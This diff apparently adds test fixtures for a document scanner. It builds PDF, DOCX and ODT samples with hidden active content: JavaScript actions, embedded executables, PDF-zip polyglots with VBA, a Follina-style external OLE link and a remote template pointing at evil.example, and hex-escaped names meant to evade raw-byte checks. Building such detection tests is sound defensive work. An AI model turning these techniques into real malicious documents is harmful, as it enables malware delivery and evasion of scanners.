@@ -471,3 +471,258 @@ def rtf_with_object() -> bytes:
         b"{\\rtf1\\ansi Lebenslauf\\par"
         b"{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}"
     )
+
+
+# -- active content hidden beyond the document level ----------------------------------------
+
+
+def _pdf_bytes(writer) -> bytes:
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def _javascript_action(script: str = "app.alert('hello');"):
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    return DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Action"),
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject(script),
+        }
+    )
+
+
+def pdf_with_page_action() -> bytes:
+    """Return a one-page PDF whose page runs JavaScript when it opens (page-level /AA /O)."""
+    from pypdf import PdfWriter
+    from pypdf.generic import DictionaryObject, NameObject
+
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=595, height=842)
+    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript_action()})
+    return _pdf_bytes(writer)
+
+
+def pdf_with_link_javascript() -> bytes:
+    """Return a one-page PDF with a link annotation whose action is JavaScript."""
+    from pypdf import PdfWriter
+    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    link = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 300, 80)]),
+            NameObject("/A"): _javascript_action("this.submitForm('https://evil.example/');"),
+        }
+    )
+    writer.add_annotation(0, link)
+    return _pdf_bytes(writer)
+
+
+def pdf_with_attachment(filename: str, data: bytes = b"attached\n") -> bytes:
+    """Return a one-page PDF carrying *filename* in its /Names /EmbeddedFiles tree."""
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    writer.add_attachment(filename, data)
+    return _pdf_bytes(writer)
+
+
+def pdf_with_embedded_exe() -> bytes:
+    """Return a one-page PDF carrying a Windows program (`invoice.exe`) as an attachment."""
+    return pdf_with_attachment("invoice.exe", exe_named_pdf())
+
+
+def pdf_with_file_attachment_annotation(filename: str = "payload.exe") -> bytes:
+    """Return a one-page PDF whose /FileAttachment annotation (a paper clip) holds a file."""
+    from pypdf import PdfWriter
+    from pypdf.generic import (
+        ArrayObject,
+        DecodedStreamObject,
+        DictionaryObject,
+        FloatObject,
+        NameObject,
+        TextStringObject,
+    )
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    stream = DecodedStreamObject()
+    stream.set_data(exe_named_pdf())
+    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
+    filespec = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Filespec"),
+            NameObject("/F"): TextStringObject(filename),
+            NameObject("/UF"): TextStringObject(filename),
+            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)}),
+        }
+    )
+    annotation = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/FileAttachment"),
+            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 70, 70)]),
+            NameObject("/FS"): filespec,
+        }
+    )
+    writer.add_annotation(0, annotation)
+    return _pdf_bytes(writer)
+
+
+def vba_zip() -> bytes:
+    """Return a zip holding a VBA project, as appended to PDFs to smuggle macros."""
+    return _zip([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(508))])
+
+
+def pdf_followed_by_zip() -> bytes:
+    """Return a valid PDF with a zip (holding vbaProject.bin) appended after its %%EOF."""
+    return blank_pdf() + vba_zip()
+
+
+def pdf_with_zip_before_eof() -> bytes:
+    """Return a PDF + zip polyglot that ends in %%EOF again, so nothing trails the marker.
+
+    Zip readers find the archive's end record anywhere in the last 64 KB, so the file is a
+    PDF to a viewer and an archive to a zip tool.
+    """
+    return blank_pdf() + vba_zip() + b"\n%%EOF\n"
+
+
+def pdf_followed_by_exe() -> bytes:
+    """Return a valid PDF with a Windows program appended after its %%EOF."""
+    return blank_pdf() + exe_named_pdf()
+
+
+def pdf_with_padding() -> bytes:
+    """Return a valid PDF followed by line ends and NUL padding, as some writers leave."""
+    return blank_pdf() + b"\r\n\x00\x00\x00\n"
+
+
+_SETTINGS_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    'relationships/{kind}" Target="{target}" TargetMode="External"/>'
+    "</Relationships>"
+)
+
+
+def docx_with_remote_template() -> bytes:
+    """Return a DOCX whose settings attach a template fetched from a web server when opened."""
+    settings = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+        b' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+        b'<w:attachedTemplate r:id="rId1"/></w:settings>'
+    )
+    rels = _SETTINGS_RELS.format(kind="attachedTemplate", target="https://evil.example/t.dotm")
+    return _zip(
+        [
+            *_docx_parts(),
+            ("word/settings.xml", settings),
+            ("word/_rels/settings.xml.rels", rels.encode()),
+        ]
+    )
+
+
+def docx_with_external_object() -> bytes:
+    """Return a DOCX whose document links an OLE object on another server (as Follina did)."""
+    rels = _SETTINGS_RELS.format(kind="oleObject", target="mhtml:https://evil.example/x.html!x")
+    return _zip([*_docx_parts(), ("word/_rels/document.xml.rels", rels.encode())])
+
+
+def docx_with_hyperlink() -> bytes:
+    """Return a DOCX with an ordinary external hyperlink (followed only when clicked)."""
+    rels = _SETTINGS_RELS.format(kind="hyperlink", target="https://example.org/portfolio")
+    return _zip([*_docx_parts(), ("word/_rels/document.xml.rels", rels.encode())])
+
+
+def _odt_with(parts: list[tuple[str, bytes]]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
+        for name, data in parts:
+            archive.writestr(name, data)
+        archive.writestr("META-INF/manifest.xml", ODT_MANIFEST)
+    return buffer.getvalue()
+
+
+def odt_with_event_listener() -> bytes:
+    """Return an ODT whose content binds the document's load event to a script (no Basic)."""
+    content = ODT_CONTENT.replace(
+        b' office:version="1.3">',
+        b' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
+        b' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">'
+        b"<office:scripts><office:event-listeners>"
+        b'<script:event-listener script:language="ooo:script" script:event-name="dom:load"'
+        b' xlink:href="vnd.sun.star.script:pythonSamples|TableSample.py$createTable'
+        b'?language=Python&amp;location=share"/>'
+        b"</office:event-listeners></office:scripts>",
+    )
+    return _odt_with([("content.xml", content)])
+
+
+def odt_with_event_listener_in_styles() -> bytes:
+    """Return an ODT whose styles.xml binds an event to a Basic macro under an unusual prefix."""
+    styles = (
+        b'<?xml version="1.0" encoding="UTF-8"?>\n'
+        b'<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
+        b' xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
+        b' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">'
+        b"<office:scripts><office:event-listeners>"
+        b'<s:event-listener s:language="StarBasic" s:event-name="dom:mouseover"'
+        b' s:macro-name="Standard.Module1.Main" s:library="application"/>'
+        b"</office:event-listeners></office:scripts></office:document-styles>"
+    )
+    return _odt_with([("content.xml", ODT_CONTENT), ("styles.xml", styles)])
+
+
+def odt_with_macro_link() -> bytes:
+    """Return an ODT whose hyperlink runs a macro when clicked (a vnd.sun.star.script URL)."""
+    content = ODT_CONTENT.replace(
+        b' office:version="1.3">',
+        b' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">',
+    ).replace(
+        b"<text:p>Probe</text:p>",
+        b'<text:p><text:a xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.'
+        b'Module1.Main?language=Basic&amp;location=application">Probe</text:a></text:p>',
+    )
+    return _odt_with([("content.xml", content)])
+
+
+def pdf_with_hex_escaped_link_javascript() -> bytes:
+    """Return the link-JavaScript PDF with its names hex-escaped (/J#61vaScript, /J#53).
+
+    Viewers decode the escapes, so a check that matched the raw bytes would miss them. The
+    xref offsets are off by the added bytes; viewers (and pypdf) rebuild them.
+    """
+    data = pdf_with_link_javascript()
+    assert data.count(b"/JavaScript") == 1
+    assert data.count(b"/JS ") == 1
+    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
+
+
+def pdf_with_field_page_open_action() -> bytes:
+    """Return a one-page PDF whose form field runs JavaScript as its page opens (/AA /PO)."""
+    from pypdf import PdfWriter
+    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    widget = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Widget"),
+            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 300, 80)]),
+            NameObject("/AA"): DictionaryObject({NameObject("/PO"): _javascript_action()}),
+        }
+    )
+    writer.add_annotation(0, widget)
+    return _pdf_bytes(writer)
